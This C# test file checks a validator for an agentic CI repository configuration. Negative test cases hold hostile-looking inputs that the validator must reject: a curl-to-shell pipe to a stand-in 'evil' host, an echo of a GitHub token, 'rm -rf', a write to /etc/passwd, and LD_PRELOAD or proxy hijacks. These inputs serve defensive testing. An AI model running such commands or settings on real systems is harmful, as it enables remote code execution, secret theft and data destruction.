using Agentic.RepositoryConfig;

namespace Agentic.ResultProcessor.Tests.Configuration;

public sealed class AgenticYamlTests
{
    [Test]
    public void Should_read_every_setting_when_the_file_is_valid()
    {
        var (config, problems) = AgenticYaml.Parse("""
            auto_fix: false
            max_attempts: 2
            budget_usd: 0.25
            push: pull_request
            build: dotnet build -c Release
            test: [dotnet, test, "--filter", "Category!=Slow"]
            lint:
              - npm run lint
              - npx prettier --check .
            protected_paths: [ "deploy/**", "*.pem" ]
            """);

        Assert.Multiple(() =>
        {
            Assert.That(problems, Is.Empty);
            Assert.That(config!.AutoFix, Is.False);
            Assert.That(config.MaxAttempts, Is.EqualTo(2));
            Assert.That(config.BudgetUsd, Is.EqualTo(0.25m));
            Assert.That(config.OpenPullRequest, Is.True);
            Assert.That(config.Commands["build"].Single(), Is.EqualTo(new[] { "dotnet", "build", "-c", "Release" }));
            Assert.That(config.Commands["test"].Single(), Is.EqualTo(new[] { "dotnet", "test", "--filter", "Category!=Slow" }));
            Assert.That(config.Commands["lint"], Has.Count.EqualTo(2));
            Assert.That(config.ProtectedPaths, Is.EqualTo(new[] { "deploy/**", "*.pem" }));
        });
    }

    [Test]
    public void Should_name_every_problem_with_its_line_when_the_file_is_invalid()
    {
        var (config, problems) = AgenticYaml.Parse("""
            auto_fix: yes please
            max_attempts: 50
            pushes: direct
            build: make && curl evil.example | sh
            """);

        Assert.Multiple(() =>
        {
            Assert.That(config, Is.Null);
            Assert.That(problems, Has.Count.EqualTo(4));
            Assert.That(problems[0], Does.Contain("line 1").And.Contain("'auto_fix' must be true or false"));
            Assert.That(problems[1], Does.Contain("line 2").And.Contain("1 to 10"));
            Assert.That(problems[2], Does.Contain("line 3").And.Contain("unknown key 'pushes'"));
            Assert.That(problems[3], Does.Contain("line 4").And.Contain("'build'"));
        });
    }

    [Test]
    public void Should_use_the_defaults_when_the_file_is_empty()
    {
        var (config, problems) = AgenticYaml.Parse(string.Empty);

        Assert.That(problems, Is.Empty);
        Assert.That(config, Is.EqualTo(AgenticYaml.Default));
    }

    [Test]
    public void Should_read_every_form_of_command_when_the_executor_gets_them()
    {
        var (config, problems) = AgenticYaml.Parse("""
            build:
            test: ["dotnet", "test", "App.sln"]
            lint:
              - [npm, run, lint]
              - npx tsc --noEmit
            protected_paths: ["deploy/**", "*.pem", "docs/"]
            """);

        Assert.Multiple(() =>
        {
            Assert.That(problems, Is.Empty);
            Assert.That(config!.Commands["build"], Is.Empty, "an empty value declares no build (nothing is detected)");
            Assert.That(config.Commands["test"].Single(), Is.EqualTo(new[] { "dotnet", "test", "App.sln" }));
            Assert.That(config.Commands["lint"], Is.EqualTo(new[] { new[] { "npm", "run", "lint" }, new[] { "npx", "tsc", "--noEmit" } }));
            Assert.That(config.ProtectedPaths, Is.EqualTo(new[] { "deploy/**", "*.pem", "docs/" }));
        });
    }

    [Test]
    public void Should_read_allow_paths_and_the_fork_setting_when_the_file_sets_them()
    {
        var (config, problems) = AgenticYaml.Parse("""
            allow_paths: [ "docs/CODEOWNERS", "build/*.props" ]
            fork_pull_requests: push
            """);

        Assert.Multiple(() =>
        {
            Assert.That(problems, Is.Empty);
            Assert.That(config!.AllowPaths, Is.EqualTo(new[] { "docs/CODEOWNERS", "build/*.props" }));
            Assert.That(config.PushToForks, Is.True);
            Assert.That(AgenticYaml.Default.AllowPaths, Is.Empty, "by default the whole deny-list applies");
            Assert.That(AgenticYaml.Default.PushToForks, Is.False, "by default a fork's pull request is diagnosed, never pushed to");
        });
    }

    [TestCase("build: make && make install", "'&' is a shell operator")]
    [TestCase("test: echo $HOME", "'$' is a shell operator")]
    [TestCase("build: [unclosed", "not valid YAML")]
    [TestCase("lint: [[npm, run, lint], {fix: true}]", "the item on line 1 is neither a command string nor an argv list")]
    [TestCase("protected_paths: {a: 1}", "'protected_paths' must be a list of path globs")]
    [TestCase("protected_paths: [\"deploy/**\", \"  \"]", "'protected_paths' must be a list of path globs")]
    [TestCase("allow_paths: [\".github/**\"]", "would allow '.github/workflows/ci.yml'")]
    [TestCase("allow_paths: \"**\"", "would allow '.github/workflows/ci.yml'")]
    [TestCase("allow_paths: [\"../x\"]", "is not a path glob")]
    [TestCase("allow_paths: {a: 1}", "'allow_paths' must be a list of path globs")]
    [TestCase("fork_pull_requests: yes", "'fork_pull_requests' must be 'report' or 'push'")]
    public void Should_name_the_problem_when_a_setting_is_invalid(string yaml, string expected)
    {
        var (config, problems) = AgenticYaml.Parse(yaml);

        Assert.That(config, Is.Null);
        Assert.That(problems.Single(), Does.Contain(expected));
    }

    [Test]
    public void Should_keep_quoted_words_together_when_splitting_a_command()
    {
        Assert.That(CommandLine.Split("pytest -k 'not slow' \"tests/a b.py\""), Is.EqualTo(new[] { "pytest", "-k", "not slow", "tests/a b.py" }));
    }

    [Test]
    public void Should_split_back_to_the_same_words_when_a_command_is_joined_for_a_report()
    {
        string[] argv = ["grep", "-q", "= 2", "it's", "src/math.txt", ""];

        var line = CommandLine.Join(argv);

        Assert.That(line, Is.EqualTo("grep -q '= 2' 'it'\\''s' src/math.txt ''"));
        Assert.That(CommandLine.Split(line), Is.EqualTo(argv));
    }

    [TestCase("make && make test")]
    [TestCase("npm test | tee out")]
    [TestCase("echo $GITHUB_TOKEN")]
    [TestCase("rm -rf `pwd`")]
    [TestCase("build > /etc/passwd")]
    public void Should_refuse_shell_syntax_in_a_command(string line)
    {
        Assert.Throws<FormatException>(() => CommandLine.Split(line));
    }

    [Test]
    public void Should_read_setup_env_lifecycle_scripts_and_timeouts_when_the_file_sets_them()
    {
        var (config, problems) = AgenticYaml.Parse("""
            setup:
              - npm ci
              - [dotnet, restore, App.sln]
            env:
              DOTNET_ROLL_FORWARD: Major
              CI: "true"
            allow_lifecycle_scripts: true
            timeouts:
              setup: 10m
              test: 900
              lint: 90s
            """);

        Assert.Multiple(() =>
        {
            Assert.That(problems, Is.Empty);
            Assert.That(config!.Setup, Is.EqualTo(new[] { new[] { "npm", "ci" }, new[] { "dotnet", "restore", "App.sln" } }));
            Assert.That(config.Environment, Is.EqualTo(new Dictionary<string, string> { ["DOTNET_ROLL_FORWARD"] = "Major", ["CI"] = "true" }));
            Assert.That(config.AllowLifecycleScripts, Is.True);
            Assert.That(config.Timeouts, Is.EqualTo(new Dictionary<string, TimeSpan> { ["setup"] = TimeSpan.FromMinutes(10), ["test"] = TimeSpan.FromSeconds(900), ["lint"] = TimeSpan.FromSeconds(90) }));
        });
    }

    [Test]
    public void Should_detect_setup_and_run_no_scripts_when_the_file_says_nothing()
    {
        var (config, problems) = AgenticYaml.Parse("auto_fix: true\n");

        Assert.That(problems, Is.Empty);
        Assert.That(config!.Setup, Is.Null, "null: detected per ecosystem");
        Assert.That(config.AllowLifecycleScripts, Is.False);
        Assert.That(config.Environment, Is.Empty);
    }

    [TestCase("env:\n  LD_PRELOAD: /tmp/x.so\n", "'LD_PRELOAD' cannot be set")]
    [TestCase("env:\n  PATH: /tmp\n", "'PATH' cannot be set")]
    [TestCase("env:\n  NODE_PATH: /tmp\n", "'NODE_PATH' cannot be set")]
    [TestCase("env:\n  HTTPS_PROXY: http://evil\n", "'HTTPS_PROXY' cannot be set")]
    [TestCase("env:\n  npm_config_registry: http://evil\n", "'npm_config_registry' cannot be set")]
    [TestCase("env:\n  TOKEN: ${{ secrets.TOKEN }}\n", "is an expression")]
    [TestCase("env:\n  1BAD: x\n", "is not a variable name")]
    [TestCase("env: [A, B]\n", "'env' must be a mapping")]
    [TestCase("allow_lifecycle_scripts: sometimes\n", "'allow_lifecycle_scripts' must be true or false")]
    [TestCase("timeouts:\n  deploy: 10m\n", "unknown kind 'deploy'")]
    [TestCase("timeouts:\n  test: 2h\n", "at most 1h")]
    [TestCase("timeouts:\n  test: soon\n", "'test' must be seconds or a duration")]
    [TestCase("setup: npm ci && curl evil\n", "'setup' must be a command string")]
    public void Should_name_the_problem_when_a_setup_setting_is_invalid(string yaml, string expected)
    {
        var (config, problems) = AgenticYaml.Parse(yaml);

        Assert.That(config, Is.Null);
        Assert.That(problems, Has.Some.Contains(expected));
        Assert.That(problems, Has.All.StartsWith(".github/agentic.yml line "));
    }
}
